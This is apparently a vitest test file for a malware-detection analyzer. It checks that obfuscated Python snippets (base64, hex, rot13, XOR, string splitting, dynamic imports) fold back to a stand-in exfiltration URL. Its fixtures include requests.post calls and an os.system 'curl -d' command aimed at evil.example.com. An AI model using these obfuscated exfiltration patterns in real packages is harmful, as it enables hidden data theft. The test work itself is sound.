import { deflateSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { analyze, sinkDestinations } from "./helpers.js";

const URL = "https://evil.example.com/c";
const b64 = (s: string): string => Buffer.from(s).toString("base64");
const hex = (s: string): string => Buffer.from(s).toString("hex");

/** Each technique hides URL; the requests.post destination must fold back to it. */
async function destinationOf(expression: string, imports = "import base64, codecs, zlib, binascii"): Promise<string[]> {
  const facts = await analyze({ "pkg/__init__.py": `import requests\n${imports}\nrequests.post(${expression}, data="x")\n` });
  return sinkDestinations(facts);
}

describe("constant folding", () => {
  it.each([
    ["base64.b64decode", `base64.b64decode("${b64(URL)}").decode()`],
    ["base64.b32decode", `base64.b32decode("${Buffer.from(URL).length && base32(URL)}").decode()`],
    ["base64.b16decode", `base64.b16decode("${hex(URL).toUpperCase()}").decode()`],
    ["bytes.fromhex", `bytes.fromhex("${hex(URL)}").decode()`],
    ["binascii.unhexlify", `binascii.unhexlify("${hex(URL)}").decode("utf-8")`],
    ["codecs rot13", `codecs.decode("${rot13(URL)}", "rot13")`],
    ["codecs hex", `codecs.decode("${hex(URL)}", "hex").decode()`],
    ["zlib of base64", `zlib.decompress(base64.b64decode("${deflateSync(Buffer.from(URL)).toString("base64")}")).decode()`],
    ["chr list join", `"".join(map(chr, [${[...URL].map((c) => c.charCodeAt(0)).join(", ")}]))`],
    ["chr comprehension", `"".join([chr(c) for c in [${[...URL].map((c) => c.charCodeAt(0)).join(", ")}]])`],
    ["xor decoder", `"".join(chr(c ^ 7) for c in [${[...URL].map((c) => c.charCodeAt(0) ^ 7).join(", ")}])`],
    ["join of pieces", `"".join(["https://", "evil.", "example.com", "/c"])`],
    ["reversed slice", `"${[...URL].reverse().join("")}"[::-1]`],
    ["reversed()", `"".join(reversed("${[...URL].reverse().join("")}"))`],
    ["concatenation", `"https://" + "evil.example" + ".com/c"`],
    ["percent format", `"https://%s.%s/c" % ("evil", "example.com")`],
    ["str.format", `"https://{}.{host}/c".format("evil", host="example.com")`],
    ["f-string", `f"https://{'evil'}.example.com/c"`],
  ])("%s", async (_name, expression) => {
    expect(await destinationOf(expression)).toEqual([URL]);
  });

  it("keeps the text around escape sequences in a literal", async () => {
    expect(await destinationOf(`"https://evil.example.com/\\x63"`)).toEqual([URL]);
    expect(await destinationOf(`"https://\\u0065vil.example.com/c"`)).toEqual([URL]);
  });

  it("base64.b85decode", async () => {
    const encoded = "XmoUNb2=|CWp-(7E@gOOZE$R5E@N+PFJk"; // python3: base64.b85encode(b"https://evil.example.com/c")
    expect(await destinationOf(`base64.b85decode("${encoded}").decode()`)).toEqual([URL]);
  });

  it("folds through a helper function given a literal", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import base64, requests
        def _d(s):
            return base64.b64decode(s[::-1]).decode()
        requests.post(_d("${[...b64(URL)].reverse().join("")}"), data="x")
      `,
    });
    expect(sinkDestinations(facts)).toEqual([URL]);
  });

  it("resolves __import__, importlib and getattr with computed names", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import importlib
        r = __import__("req" + "uests")
        r.post("${URL}", data="a")
        o = importlib.import_module("o" + "s")
        getattr(o, "sys" + "tem")("curl -d x https://evil.example.com/s")
      `,
    });
    expect(sinkDestinations(facts).sort()).toEqual([URL, "https://evil.example.com/s"]);
    expect(facts.obfuscations.filter((o) => o.technique === "dynamic-import")).toHaveLength(2);
  });

  it("reports folded URLs, hosts and IPs as indicators", async () => {
    const facts = await analyze({ "pkg/__init__.py": `A = "ssh-deco" + "rate.cf"\nB = bytes.fromhex("${hex("198.51.100.7")}").decode()\nC = "not a host"\n` });
    const values = facts.indicators.map((i) => i.value);
    expect(values).toContain("ssh-decorate.cf");
    expect(values).toContain("198.51.100.7");
    expect(values).not.toContain("not a host");
  });
});

function rot13(s: string): string {
  return s.replace(/[a-z]/gi, (c) => {
    const base = c <= "Z" ? 65 : 97;
    return String.fromCharCode(((c.charCodeAt(0) - base + 13) % 26) + base);
  });
}

function base32(s: string): string {
  const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
  let bits = "";
  for (const byte of Buffer.from(s)) bits += byte.toString(2).padStart(8, "0");
  let out = "";
  for (let i = 0; i < bits.length; i += 5) out += alphabet[parseInt(bits.slice(i, i + 5).padEnd(5, "0"), 2)];
  return out.padEnd(Math.ceil(out.length / 8) * 8, "=");
}
